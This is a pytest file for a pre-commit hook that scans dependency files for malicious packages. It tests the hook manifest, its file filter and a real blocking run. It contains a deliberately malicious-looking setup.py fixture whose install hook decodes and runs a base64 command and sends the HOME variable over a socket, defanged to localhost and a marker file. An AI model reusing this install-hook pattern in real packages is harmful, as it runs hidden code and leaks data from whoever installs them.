"""The pre-commit hook: its manifest, its file filter, and a real run.

The integration test does what a developer does: a temporary git repository
whose dependency file names a package on a local index (served by the
`local_index` fixture from tests/conftest.py), `pre-commit try-repo` pointed
at this repository, exit code and output asserted: once for a clean
dependency, once for a malicious-looking one. The malicious fixture's
setup.py would write a marker file if anything ever ran it; it must not.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
MANIFEST = ROOT / ".pre-commit-hooks.yaml"
EXAMPLE = ROOT / "hooks" / "pre-commit-config.example.yaml"


def _pre_commit(*args: str, cwd: Path = ROOT, env: dict[str, str] | None = None, timeout=120):
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


@pytest.fixture(scope="module")
def hook() -> dict:
    (entry,) = yaml.safe_load(MANIFEST.read_text())
    return entry


def test_manifest_validates() -> None:
    pytest.importorskip("pre_commit")
    result = _pre_commit("validate-manifest", str(MANIFEST))
    assert result.returncode == 0, result.stdout + result.stderr


def test_manifest_validation_can_fail(tmp_path: Path) -> None:
    pytest.importorskip("pre_commit")
    broken = tmp_path / "hooks.yaml"
    broken.write_text("- id: x\n  language: python\n")  # no name, no entry
    assert _pre_commit("validate-manifest", str(broken)).returncode != 0


def test_example_config_validates() -> None:
    pytest.importorskip("pre_commit")
    result = _pre_commit("validate-config", str(EXAMPLE))
    assert result.returncode == 0, result.stdout + result.stderr
    config = yaml.safe_load(EXAMPLE.read_text())
    assert config["ci"]["skip"] == ["mphunter-gate"]
    assert config["repos"][0]["hooks"][0]["id"] == "mphunter-gate"


def test_hook_definition(hook: dict) -> None:
    assert hook["id"] == "mphunter-gate"
    assert hook["language"] == "python"
    assert hook["entry"] == "mphunter-gate check"
    assert hook["pass_filenames"] is True
    assert hook["require_serial"] is True


@pytest.mark.parametrize(
    "path",
    [
        "requirements.txt",
        "requirements-dev.txt",
        "sub/requirements_test.txt",
        "constraints.txt",
        "constraints-py311.txt",
        "requirements.in",
        "dev.in",
        "pyproject.toml",
        "pkg/pyproject.toml",
        "poetry.lock",
        "uv.lock",
        "Pipfile.lock",
        "pylock.toml",
        "pylock.dev.toml",
    ],
)
def test_files_regex_matches_dependency_files(hook: dict, path: str) -> None:
    assert re.search(hook["files"], path)


@pytest.mark.parametrize(
    "path",
    [
        "setup.py",
        "README.md",
        "src/requirements.py",
        "requirements.txt.bak",
        "my-pyproject.toml",
        "Pipfile",
        "package-lock.json",
        "docs/index.rst",
        "poetry.lock.orig",
    ],
)
def test_files_regex_ignores_other_files(hook: dict, path: str) -> None:
    assert not re.search(hook["files"], path)


# --- a real pre-commit run ---------------------------------------------------

BENIGN_SETUP = """\
from setuptools import setup

setup(
    name="tidyhelpers",
    version="1.0.0",
    description="Small helpers",
    packages=["tidyhelpers"],
    install_requires=[],
)
"""

# Written for this test: imitates the usual install-hook pattern (a cmdclass
# that decodes a base64 string and runs it). If any code ran it, the marker
# file would appear.
EVIL_SETUP = """\
import base64
import os
import socket
from setuptools import setup
from setuptools.command.install import install

MARKER = {marker!r}
open(MARKER, "w").write("setup.py was executed")


class PostInstall(install):
    def run(self):
        command = base64.b64decode({payload!r}).decode()
        os.system(command)
        s = socket.socket()
        s.connect(("127.0.0.1", 9))
        s.send(os.environ.get("HOME", "").encode())
        install.run(self)


setup(name="shinyhelpers", version="1.0.0", cmdclass={{"install": PostInstall}})
"""


@pytest.fixture
def index(request: pytest.FixtureRequest):
    try:
        return request.getfixturevalue("local_index")
    except pytest.FixtureLookupError:
        pytest.skip("needs the local_index fixture (tests/conftest.py), not there yet")


_GIT_ENV = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
_COMMIT = ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-qm", "snap"]


def _git(*args: str, cwd: Path) -> str:
    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed")
    env = {**os.environ, **_GIT_ENV}
    done = subprocess.run([git, *args], cwd=cwd, env=env, check=True, capture_output=True)
    return done.stdout.decode()


@pytest.fixture(scope="module")
def hook_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """This working tree as a committed repository.

    try-repo only sees committed and modified tracked files; snapshotting
    the tree (tracked plus new, minus ignored) tests the hook as it is now.
    """
    snapshot = tmp_path_factory.mktemp("hook-repo")
    listing = _git("ls-files", "-z", "--cached", "--others", "--exclude-standard", cwd=ROOT)
    for rel in filter(None, listing.split("\0")):
        src = ROOT / rel
        if src.is_file():
            dst = snapshot / rel
            dst.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(src, dst)
    _git("init", "-q", cwd=snapshot)
    _git("add", "-A", cwd=snapshot)
    _git(*_COMMIT, cwd=snapshot)
    return snapshot


@pytest.fixture(scope="module")
def pre_commit_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # One hook environment for both runs: installing it is the slow part.
    return tmp_path_factory.mktemp("pre-commit-home")


def _git_repo(path: Path, requirements: str) -> Path:
    path.mkdir()
    (path / "requirements.txt").write_text(requirements)
    _git("init", "-q", cwd=path)
    _git("add", "requirements.txt", cwd=path)
    _git(*_COMMIT, cwd=path)
    return path


def _try_repo(
    hook_repo: Path, repo: Path, index_url: str, home: Path
) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "PRE_COMMIT_HOME": str(home),
        "MPHUNTER_GATE_INDEX_URL": index_url,
        "MPHUNTER_GATE_CACHE": str(home / "gate-cache"),
    }
    return _pre_commit(
        "try-repo",
        str(hook_repo),
        "mphunter-gate",
        "--files",
        "requirements.txt",
        "--verbose",
        cwd=repo,
        env=env,
        timeout=1800,
    )


@pytest.mark.integration
def test_hook_passes_a_clean_dependency_and_blocks_a_bad_one(
    index, hook_repo: Path, tmp_path: Path, pre_commit_home: Path
) -> None:
    pytest.importorskip("pre_commit")
    marker = tmp_path / "marker-executed"
    payload = __import__("base64").b64encode(f"echo pwned > {marker}".encode()).decode()
    index.add_sdist("tidyhelpers", "1.0.0", BENIGN_SETUP)
    index.add_sdist("shinyhelpers", "1.0.0", EVIL_SETUP.format(marker=str(marker), payload=payload))

    clean_repo = _git_repo(tmp_path / "clean", "tidyhelpers==1.0.0\n")
    clean = _try_repo(hook_repo, clean_repo, index.url, pre_commit_home)
    assert clean.returncode == 0, clean.stdout + clean.stderr
    assert "tidyhelpers" in clean.stdout

    bad = _try_repo(
        hook_repo,
        _git_repo(tmp_path / "bad", "tidyhelpers==1.0.0\nshinyhelpers==1.0.0\n"),
        index.url,
        pre_commit_home,
    )
    assert bad.returncode != 0, bad.stdout + bad.stderr
    assert "shinyhelpers" in bad.stdout and "FAIL" in bad.stdout
    assert "requirements.txt:2" in bad.stdout  # the line that pulled it in
    assert not marker.exists(), "the package's setup.py was executed"
